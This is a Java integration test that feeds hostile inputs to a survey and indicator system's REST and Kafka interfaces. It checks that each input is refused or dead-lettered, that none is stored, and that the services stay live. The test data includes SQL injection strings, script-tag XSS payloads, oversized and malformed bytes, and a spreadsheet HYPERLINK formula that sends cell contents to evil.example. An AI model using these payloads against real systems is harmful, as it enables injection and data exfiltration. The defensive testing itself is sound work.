package vn.parsipas.system;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.apache.kafka.common.utils.Utils;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import vn.parsipas.devstack.ServiceJvm;
import vn.parsipas.devstack.Suite;

/**
 * Malformed or hostile inputs through every door: each REST request gets a clear 4xx problem (or,
 * for batches, every bad item rejected with its reason), each Kafka record ends in its dead-letter
 * topic with the reason; nothing of them is stored, the valid records sent beside them are all
 * stored, and every service stays live and ready. The class reports its counts when it ends.
 */
class HostileInputsIT {
    static final List<String> HUGE = List.of("1e999999999", "-1e999999999", "1e-999999999");
    static SystemUnderTest sut;
    static ExternalProducer kafka;
    static int tried;
    static int refused;
    static int validSent;
    static int validStored;

    @BeforeAll
    static void start() {
        sut = SystemUnderTest.get();
        kafka = new ExternalProducer(sut.engines.addresses().get("kafka.bootstrap.servers"), sut.repo);
    }

    @AfterAll
    static void report() {
        System.out.printf("[system] hostile inputs: %d tried, %d refused with a reason, %d valid sent beside them, %d lost%n",
                tried, refused, validSent, validSent - validStored);
    }

    @Test
    void aThousandHostileInputsGetClearErrorsOrDeadLetters() throws Exception {
        String run = "hostile-" + UUID.randomUUID().toString().substring(0, 6);
        List<String> refusals = new ArrayList<>();
        String igate = sut.client.systemToken("igate");
        String kiosk = sut.client.systemToken("survey-kiosk");
        String coordinator = sut.client.userToken("coordinator.snv");
        List<byte[]> hostileValues = hostileValues();
        int rest = 0;
        for (int i = 0; i < 500; i++) {
            byte[] body = hostileValues.get(i % hostileValues.size());
            String target = switch (i % 3) {
                case 0 -> sut.url("indicator") + "/api/v1/observations|" + igate;
                case 1 -> sut.url("survey") + "/api/v1/responses|" + kiosk;
                default -> sut.url("task") + "/api/v1/tasks|" + coordinator;
            };
            String[] parts = target.split("\\|");
            HttpResponse<String> answer = FaultsIT.postBytes(parts[0], parts[1], wrap(i % 3, body),
                    Map.of("Idempotency-Key", run + "-rest-" + i));
            rest++;
            String type = answer.headers().firstValue("content-type").orElse("");
            if (answer.statusCode() == 200 && i % 3 == 0 && nothingImported(answer.body())) {
                continue; // indicator-service answers a batch item by item: every item rejected, with its reason
            }
            if (answer.statusCode() < 400 || answer.statusCode() >= 500
                    || (answer.statusCode() != 413 && !type.startsWith("application/problem+json"))
                    || answer.body().contains("Exception") || answer.body().contains("at vn.parsipas")) {
                refusals.add(parts[0] + " " + answer.statusCode() + " " + type + " " + abbreviate(answer.body()));
            }
        }
        assertThat(refusals).as("REST answers that were not a clear 4xx problem").isEmpty();

        int sent = 0;
        for (int i = 0; i < 500; i++) {
            String topic = i % 2 == 0 ? ExternalProducer.topicOf("indicators.observations.v1", "igate")
                    : ExternalProducer.topicOf("sipas.responses.v1", "survey-kiosk");
            kafka.send(topic, run + "-" + i, hostileRecord(i, topic));
            sent++;
        }
        kafka.flush();
        int expected = sent;
        await().atMost(FaultsIT.PATIENCE).untilAsserted(() -> assertThat(deadLetters(run)).isEqualTo(expected));
        assertThat(rest + sent).isEqualTo(1000);
        assertAllLiveAndReady();
        assertThat(sut.count("indicator", "select count(*) from observation where scope like '%<%' or indicator_code like '%''%'")).isZero();
        tried += rest + sent;
        refused += rest + expected;
    }

    /**
     * The anonymous form (from one address, through the ingress) and the respondent attributes on every door:
     * hostile posts get a clear 4xx page, never a 500 or a stored response; a spreadsheet formula is no ethnic group.
     */
    @Test
    void theCitizenFormAndTheRespondentAttributesRefuseHostileInput() throws Exception {
        String run = "hostile-form-" + UUID.randomUUID().toString().substring(0, 6);
        String code = sut.registerReceipts(run, 1).get(0);
        String pin = sut.pin(code);
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Chi tiết\")";
        String answers = "&responseId=" + UUID.randomUUID() + "&questionnaireVersion=1&channel=counter&q_2.2.1-q1=1&q_2.2.2-q1=1"
                + "&q_2.2.3-q1=1";
        byte[] badUtf8 = "receiptCode=\u00c3(&pin=123456".getBytes(StandardCharsets.ISO_8859_1);
        List<byte[]> bodies = new ArrayList<>(List.of(badUtf8, new byte[0], "%%%&&==&".getBytes(StandardCharsets.UTF_8)));
        for (String body : List.of("receiptCode=" + encode("x'; drop table survey_response; --") + "&pin=123456",
                "receiptCode=" + encode(code) + "&pin=" + encode("<script>alert(1)</script>"),
                "receiptCode=" + encode("Đ".repeat(200_000)) + "&pin=123456",
                "receiptCode=" + encode(code) + "&pin=" + pin + answers.replace("questionnaireVersion=1", "questionnaireVersion=one"),
                "receiptCode=" + encode(code) + "&pin=" + pin + answers + "&ethnicGroup=" + encode(formula),
                "receiptCode=" + encode(code) + "&pin=" + pin + answers.replace("channel=counter", "channel=" + encode(formula)))) {
            bodies.add(body.getBytes(StandardCharsets.UTF_8));
        }
        for (byte[] body : bodies) {
            HttpResponse<String> answer = FaultsIT.HTTP.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(sut.url("survey") + "/khao-sat"))
                    .header("Content-Type", "application/x-www-form-urlencoded").header("X-Forwarded-For", "192.0.2.77")
                    .POST(java.net.http.HttpRequest.BodyPublishers.ofByteArray(body)).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(answer.statusCode()).as(abbreviate(answer.body())).isIn(400, 413, 429);
            assertThat(answer.body()).doesNotContain("Exception").doesNotContain("at vn.parsipas");
        }
        assertThat(sut.count("survey", "select count(*) from survey_response where receipt_code = '" + code + "'")).isZero();

        ObjectNode response = sut.surveyResponse(null, 4);
        ((ObjectNode) response.get("respondent")).put("ethnicGroup", formula);
        HttpResponse<String> rest = FaultsIT.postBytes(sut.url("survey") + "/api/v1/responses", sut.client.systemToken("survey-kiosk"),
                response.toString().getBytes(StandardCharsets.UTF_8));
        assertThat(rest.statusCode()).isEqualTo(400);
        assertThat(rest.body()).contains("respondent.ethnicGroup");
        kafka.send(ExternalProducer.topicOf("sipas.responses.v1", "survey-kiosk"), run + "-formula", kafka.envelope(run + "-formula", FaultsIT.RESPONSE,
                "survey-response-submitted.v1", "/survey-kiosk", "formula", response));
        kafka.flush();
        await().atMost(FaultsIT.PATIENCE).untilAsserted(() -> assertThat(deadLetters(run)).isOne());
        assertThat(sut.count("survey", "select count(*) from survey_response where ethnic_group like '=%'")).isZero();
        tried += bodies.size() + 2;
        refused += bodies.size() + 2;
    }

    private static String encode(String text) {
        return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    @Test
    void hugeExponentsThroughJsonCsvAndKafkaAreRefusedWithAShortReasonAndTheDoorsStayOpen() throws Exception {
        String run = "HUGE-" + UUID.randomUUID().toString().substring(0, 6).toUpperCase();
        String observations = sut.url("indicator") + "/api/v1/observations";
        String igate = sut.client.systemToken("igate");
        for (String dryRun : List.of("?dryRun=true", "")) {
            StringBuilder items = new StringBuilder();
            for (int i = 0; i < HUGE.size(); i++) {
                items.append(observation(run, "2025-0" + (i + 1), HUGE.get(i))).append(',');
            }
            items.append(observation(run, "2025-04", "40"));
            HttpResponse<String> answer = FaultsIT.postBytes(observations + dryRun, igate,
                    ("{\"observations\":[" + items + "]}").getBytes(StandardCharsets.UTF_8), Map.of("Idempotency-Key", run + "-json"));
            assertRefusedAsOutOfBounds(answer, HUGE.size());
        }
        StringBuilder csv = new StringBuilder("indicatorCode,scope,period,value,unit,observedAt\n");
        for (int i = 0; i < HUGE.size(); i++) {
            csv.append(FaultsIT.INDICATOR + "," + run + ",2025-0" + (i + 1) + "," + HUGE.get(i) + ",percent,2025-07-01T01:00:00Z\n");
        }
        csv.append(FaultsIT.INDICATOR + "," + run + ",2025-05,41,percent,2025-07-01T01:00:00Z\n");
        assertRefusedAsOutOfBounds(FaultsIT.postBytes(observations, igate, csv.toString().getBytes(StandardCharsets.UTF_8),
                Map.of("Idempotency-Key", run + "-csv", "Content-Type", "text/csv")), HUGE.size());
        for (int i = 0; i < HUGE.size() + 1; i++) {
            String value = i < HUGE.size() ? HUGE.get(i) : "42";
            ObjectNode data = (ObjectNode) SystemUnderTest.JSON.readTree(observation(run, i < HUGE.size() ? "2025-0" + (i + 1) : "2025-06", value));
            kafka.send(ExternalProducer.topicOf("indicators.observations.v1", "igate"), run + "-" + i, kafka.envelope(run + "-" + i, FaultsIT.OBSERVED,
                    "indicator-observed.v1", "/igate", FaultsIT.INDICATOR + "|" + run, data));
        }
        kafka.flush();
        ObjectNode response = sut.surveyResponse(null, 4);
        response.set("questionnaireVersion", SystemUnderTest.JSON.readTree(HUGE.get(2)));
        assertThat(response.toString()).contains("\"questionnaireVersion\":1E-999999999");
        HttpResponse<String> survey = FaultsIT.postBytes(sut.url("survey") + "/api/v1/responses", sut.client.systemToken("survey-kiosk"),
                response.toString().getBytes(StandardCharsets.UTF_8), Map.of("Idempotency-Key", run + "-survey"));
        assertThat(survey.statusCode()).as(survey.body()).isEqualTo(400);
        assertThat(survey.body()).contains("questionnaireVersion").contains("out of bounds").hasSizeLessThan(1_000);

        String stored = "select count(*) from observation where scope = '" + run + "'";
        await().atMost(FaultsIT.PATIENCE).untilAsserted(() -> assertThat(sut.count("indicator", stored)).isEqualTo(3));
        List<String> reasons = sut.deadLetters(run + "-", "indicators.observations.v1.dlq");
        assertThat(reasons).hasSize(HUGE.size())
                .allSatisfy(reason -> assertThat(reason).contains("value").contains("out of bounds").hasSizeLessThan(300));
        assertThat(sut.count("indicator", stored)).isEqualTo(3);
        assertAllLiveAndReady();
        tried += 4 * HUGE.size() + 1;
        refused += 4 * HUGE.size() + 1;
        validSent += 3;
        validStored += (int) sut.count("indicator", stored);
    }

    @Test
    void aNulInACloudEventIdIsDeadLetteredAndValidRecordsOnEveryPartitionAreStillApplied() throws Exception {
        String run = "NUL-" + UUID.randomUUID().toString().substring(0, 6).toUpperCase();
        int partitions = 6;
        List<String> codes = sut.registerReceipts(run, partitions);
        for (int p = 0; p < partitions; p++) {
            ObjectNode response = sut.surveyResponse(codes.get(p), 4).put("submittedAt", "2025-11-10T03:00:00Z");
            kafka.send(ExternalProducer.topicOf("sipas.responses.v1", "survey-kiosk"), keyOnPartition(run + "-poison-r", p, partitions), kafka.envelope("poison\u0000" + run + p,
                    FaultsIT.RESPONSE, "survey-response-submitted.v1", "/survey-kiosk", codes.get(p), response));
            ObjectNode data = (ObjectNode) SystemUnderTest.JSON.readTree(observation(run, day(p), "50"));
            kafka.send(ExternalProducer.topicOf("indicators.observations.v1", "igate"), keyOnPartition(run + "-poison-o", p, partitions), kafka.envelope(
                    "poison\u0000" + run + p, FaultsIT.OBSERVED, "indicator-observed.v1", "/igate", FaultsIT.INDICATOR, data));
        }
        for (int p = 0; p < partitions; p++) {
            ObjectNode response = sut.surveyResponse(codes.get(p), 4).put("submittedAt", "2025-11-10T03:00:00Z");
            kafka.send(ExternalProducer.topicOf("sipas.responses.v1", "survey-kiosk"), keyOnPartition(run + "-valid-r", p, partitions), kafka.envelope(
                    response.path("responseId").asText(), FaultsIT.RESPONSE, "survey-response-submitted.v1", "/survey-kiosk",
                    codes.get(p), response));
            ObjectNode data = (ObjectNode) SystemUnderTest.JSON.readTree(observation(run, day(p), "50"));
            kafka.send(ExternalProducer.topicOf("indicators.observations.v1", "igate"), keyOnPartition(run + "-valid-o", p, partitions), kafka.envelope(
                    run + "-valid-" + p, FaultsIT.OBSERVED, "indicator-observed.v1", "/igate", FaultsIT.INDICATOR, data));
        }
        kafka.flush();

        await().atMost(FaultsIT.PATIENCE).untilAsserted(() -> {
            assertThat(sut.count("survey", "select count(*) from survey_response where receipt_code like '" + run + "-%'")).isEqualTo(partitions);
            assertThat(sut.count("indicator", "select count(*) from observation where scope = '" + run + "'")).isEqualTo(partitions);
        });
        assertThat(sut.deadLetters(run + "-poison-", "indicators.observations.v1.dlq", "sipas.responses.v1.dlq"))
                .hasSize(2 * partitions).allSatisfy(reason -> assertThat(reason).contains("'id'").contains("control character U+0000"));
        assertThat(sut.deadLetters(run + "-valid-", "indicators.observations.v1.dlq", "sipas.responses.v1.dlq")).isEmpty();
        assertAllLiveAndReady();
        tried += 2 * partitions;
        refused += 2 * partitions;
        validSent += 2 * partitions;
        validStored += (int) (sut.count("survey", "select count(*) from survey_response where receipt_code like '" + run + "-%'")
                + sut.count("indicator", "select count(*) from observation where scope = '" + run + "'"));
    }

    @Test
    void theServicesListenOnLoopbackOnlyAndAnAdjustableClockNeedsTheDemoSwitch() throws Exception {
        for (String service : Suite.SERVICES) {
            Suite.Instance instance = sut.suite.instances(service).get(0);
            String log = Files.readString(sut.suite.logs().resolve(service + "-service-" + instance.port() + ".log"));
            assertThat(log).as(service + "-service's address").contains("Listening on: http://127.0.0.1:" + instance.port());
        }
        Map<String, String> addresses = sut.engines.addresses();
        String database = addresses.get("postgres.host") + ":" + addresses.get("postgres.port") + "/task";
        ProcessBuilder task = new ProcessBuilder(ServiceJvm.command(sut.repo, sut.repo.resolve("services/task-service/target/quarkus-app/quarkus-run.jar")))
                .redirectErrorStream(true).redirectOutput(sut.suite.logs().resolve("task-service-without-demo-switch.log").toFile());
        task.environment().putAll(Map.of("QUARKUS_HTTP_PORT", "0", "QUARKUS_HTTP_HOST", "127.0.0.1",
                "KAFKA_BOOTSTRAP_SERVERS", addresses.get("kafka.bootstrap.servers"),
                "QUARKUS_DATASOURCE_JDBC_URL", "jdbc:postgresql://" + database, "QUARKUS_DATASOURCE_REACTIVE_URL", "postgresql://" + database,
                "QUARKUS_DATASOURCE_USERNAME", addresses.get("postgres.user"), "QUARKUS_DATASOURCE_PASSWORD", addresses.get("postgres.password"),
                "QUARKUS_OIDC_AUTH_SERVER_URL", addresses.get("keycloak.url") + "/realms/parsipas", "PARSIPAS_CLOCK_ADJUSTABLE", "true"));
        Process process = task.start();
        boolean exited = process.waitFor(3, java.util.concurrent.TimeUnit.MINUTES);
        process.destroyForcibly();
        String output = Files.readString(sut.suite.logs().resolve("task-service-without-demo-switch.log"));
        assertThat(exited).as("task-service stopped by itself: " + output).isTrue();
        assertThat(process.exitValue()).as(output).isNotZero();
        assertThat(output).contains("parsipas.clock.adjustable=true in the prod profile");
    }

    private static String observation(String scope, String period, String value) {
        return "{\"indicatorCode\":\"" + FaultsIT.INDICATOR + "\",\"scope\":\"" + scope + "\",\"period\":\"" + period
                + "\",\"value\":" + value + ",\"unit\":\"percent\",\"observedAt\":\"2025-07-01T01:00:00Z\"}";
    }

    private static String day(int p) {
        return java.time.LocalDate.of(1900, 1, 1).plusDays(p).toString();
    }

    /** The first key from {@code prefix} that the producer's default partitioner puts on {@code partition}. */
    private static String keyOnPartition(String prefix, int partition, int partitions) {
        for (int i = 0; ; i++) {
            String key = prefix + "-" + i;
            if (Utils.toPositive(Utils.murmur2(key.getBytes(StandardCharsets.UTF_8))) % partitions == partition) {
                return key;
            }
        }
    }

    /** 200, the first {@code count} items refused at their value with a short reason, the rest not refused. */
    private static void assertRefusedAsOutOfBounds(HttpResponse<String> answer, int count) throws Exception {
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
        assertThat(answer.body()).hasSizeLessThan(4_000);
        JsonNode items = SystemUnderTest.JSON.readTree(answer.body()).path("items");
        for (int i = 0; i < items.size(); i++) {
            JsonNode item = items.get(i);
            if (i < count) {
                assertThat(item.path("field").asText()).isEqualTo("value");
                assertThat(item.path("reason").asText()).contains("out of bounds").hasSizeLessThan(300);
            } else {
                assertThat(item.path("outcome").asText()).isNotEqualTo("rejected");
            }
        }
    }

    private static void assertAllLiveAndReady() {
        for (String service : Suite.SERVICES) {
            assertThat(sut.client.get(sut.url(service) + "/q/health/live", null).status()).as(service + " live").isEqualTo(200);
            assertThat(sut.client.get(sut.url(service) + "/q/health/ready", null).status()).as(service + " ready").isEqualTo(200);
        }
    }

    /** Records with this run's keys on the dead-letter topics of the external doors. */
    static long deadLetters(String run) {
        return sut.deadLetters(run + "-", "indicators.observations.v1.dlq", "sipas.responses.v1.dlq").size();
    }

    /** Malformed or hostile payload fragments, each wrapped below into the door's document shape. */
    static List<byte[]> hostileValues() {
        List<byte[]> values = new ArrayList<>();
        values.add("{\"value\": \"not a number\"}".getBytes(StandardCharsets.UTF_8));
        values.add("{\"value\": 1e999999}".getBytes(StandardCharsets.UTF_8));
        values.add(("{\"text\": \"" + "Đ".repeat(400_000) + "\"}").getBytes(StandardCharsets.UTF_8));
        byte[] badUtf8 = "{\"text\": \"Sở Tư pháp \u0000 XX\"}".getBytes(StandardCharsets.UTF_8);
        badUtf8[badUtf8.length - 4] = (byte) 0xC3;
        badUtf8[badUtf8.length - 3] = (byte) 0x28;
        values.add(badUtf8);
        values.add("{\"code\": \"x'; drop table observation; --\"}".getBytes(StandardCharsets.UTF_8));
        values.add("{\"code\": \"<script>alert('xss')</script>\"}".getBytes(StandardCharsets.UTF_8));
        values.add("{\"source\": \"/finance-system\", \"forged\": true}".getBytes(StandardCharsets.UTF_8));
        values.add("[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[".getBytes(StandardCharsets.UTF_8));
        values.add("not json at all".getBytes(StandardCharsets.UTF_8));
        values.add(new byte[0]);
        return values;
    }

    /** Puts a hostile fragment where each door expects its document, so parsing gets past the first brace. */
    static byte[] wrap(int door, byte[] fragment) {
        String text = new String(fragment, StandardCharsets.UTF_8);
        if (!text.startsWith("{")) {
            return fragment;
        }
        String inner = text.substring(1, text.length() - 1);
        String document = switch (door) {
            case 0 -> "{\"observations\":[{\"indicatorCode\":\"" + FaultsIT.INDICATOR + "\",\"scope\":\"<script>\",\"period\":\"2025-06\","
                    + inner.replace("\"code\"", "\"indicatorCode\"").replace("\"text\"", "\"note\"") + "}]}";
            case 1 -> "{\"questionnaireId\":\"sipas-2025\",\"questionnaireVersion\":\"one\",\"receiptCode\":\"x'; drop table survey_response; --\","
                    + inner + "}";
            default -> "{\"leadAgency\":\"<script>\",\"deadline\":123," + inner.replace("\"text\"", "\"title\"") + "}";
        };
        return document.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] hostileRecord(int i, String topic) {
        List<byte[]> values = hostileValues();
        byte[] fragment = values.get(i % values.size());
        String text = new String(fragment, StandardCharsets.UTF_8);
        if (i % 5 == 0 || !text.startsWith("{")) {
            return fragment; // not a CloudEvent at all
        }
        boolean observations = topic.startsWith("indicators");
        ObjectNode data = kafka.example(observations ? "indicator-observed.v1" : "survey-response-submitted.v1");
        switch (i % 5) {
            case 1 -> data.put(observations ? "value" : "questionnaireVersion", "wrong type");
            case 2 -> data.put(observations ? "scope" : "agencyCode", "<script>alert(1)</script>");
            case 3 -> data.put(observations ? "indicatorCode" : "receiptCode", "x'; drop table observation; --");
            default -> data.remove(observations ? "value" : "answers");
        }
        // forged: igate writing as another system on its own topic
        String source = observations && i % 7 == 0 ? "/tax-system" : observations ? "/igate" : "/survey-kiosk";
        return kafka.envelope("hostile-" + i + "-" + UUID.randomUUID(), observations ? FaultsIT.OBSERVED : FaultsIT.RESPONSE,
                observations ? "indicator-observed.v1" : "survey-response-submitted.v1", source, "hostile", data)
                .getBytes(StandardCharsets.UTF_8);
    }

    static boolean nothingImported(String body) {
        try {
            var summary = SystemUnderTest.JSON.readTree(body);
            return summary.at("/counts/imported").asInt() == 0 && summary.at("/counts/updated").asInt() == 0
                    && summary.at("/counts/rejected").asInt() > 0;
        } catch (java.io.IOException e) {
            return false;
        }
    }

    static String abbreviate(String text) {
        return text.length() > 300 ? text.substring(0, 300) + "…" : text;
    }
}
